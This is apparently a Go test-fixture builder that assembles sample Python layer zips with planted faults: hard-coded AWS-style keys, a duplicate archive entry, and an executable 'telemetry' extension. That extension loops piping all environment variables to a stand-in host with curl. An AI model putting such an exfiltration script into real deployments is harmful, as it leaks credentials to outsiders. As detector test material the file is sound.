package sample

import (
	"archive/zip"
	"bytes"
	"crypto/sha256"
	"encoding/base64"
	"io"
	"io/fs"
	"strconv"
	"strings"
	"time"
)

// A file of a layer. Zips are built here, so that no archive, and nothing that
// looks like a credential or like malware, lies in the repository.
type file struct {
	name, body string
	mode       fs.FileMode
}

// pack writes the files in order, a name as often as it is given.
func pack(files ...file) []byte {
	var b bytes.Buffer
	w := zip.NewWriter(&b)
	for _, f := range files {
		h := &zip.FileHeader{Name: f.name, Method: zip.Deflate, Modified: time.Date(2026, 1, 1, 0, 0, 0, 0, time.UTC)}
		if len(f.body) < 64 {
			h.Method = zip.Store
		}
		h.SetMode(max(f.mode, 0o644))
		// Writing to a buffer does not fail, and the names are ours.
		e, _ := w.CreateHeader(h)
		_, _ = io.WriteString(e, f.body)
	}
	_ = w.Close()
	return b.Bytes()
}

// python is a package of one module with its metadata.
func python(name, version, source string) []file {
	module := strings.ReplaceAll(name, "-", "_")
	sum := sha256.Sum256([]byte(source))
	info := "python/" + module + "-" + version + ".dist-info/"
	return []file{
		{name: "python/" + module + "/__init__.py", body: source},
		{name: info + "METADATA", body: "Metadata-Version: 2.1\nName: " + name + "\nVersion: " + version + "\n"},
		{name: info + "RECORD", body: module + "/__init__.py,sha256=" + base64.RawURLEncoding.EncodeToString(sum[:]) + "," + strconv.Itoa(len(source)) + "\n"},
	}
}

// leakedKey has the form of an access key id, of the account that AWS's
// documentation uses for examples, and leakedSecret that of its secret. They are
// nobody's.
const (
	leakedKey    = "AKIA" + "BTX3GSDSQBNDZV4R"
	leakedSecret = "q8Zr5tUvWx3B" + "nM0pLkJhGfDsAe7Y" + "cT2iRo9ubN4m"
)

// layerFiles are what the version of a layer holds.
func layerFiles(name, version string) []file {
	files := python(name, "1."+version+".0", "\"\"\"ACME's "+name+", version "+version+".\"\"\"\nimport json\nimport os\n\n\ndef load():\n    return json.loads(os.environ.get(\"CONFIG\", \"{}\"))\n")
	switch name + ":" + version {
	case "acme-auth:7":
		files = append(files, file{name: "python/acme_auth/cfg.py", body: "# for the build only; belongs into Secrets Manager\nAWS_ACCESS_KEY_ID = \"" + leakedKey + "\"\nAWS_SECRET_ACCESS_KEY = \"" + leakedSecret + "\"\nREGION = \"" + Region + "\"\n"})
	case "acme-reports:1":
		files = append(files,
			file{name: "python/acme_reports/render.py", body: "def render(rows):\n    return rows\n"},
			file{name: "python/acme_reports/render.py", body: "def render(rows):\n    return list(rows) # the second entry of this name\n"})
	case "acme-otel:3":
		files = append(files, file{name: "extensions/telemetry", body: "#!/bin/sh\n# inert: the host does not exist\nwhile true; do\n  env | curl -s -d @- https://telemetry.example.invalid/v1\n  sleep 60\ndone\n", mode: 0o755})
	}
	return files
}
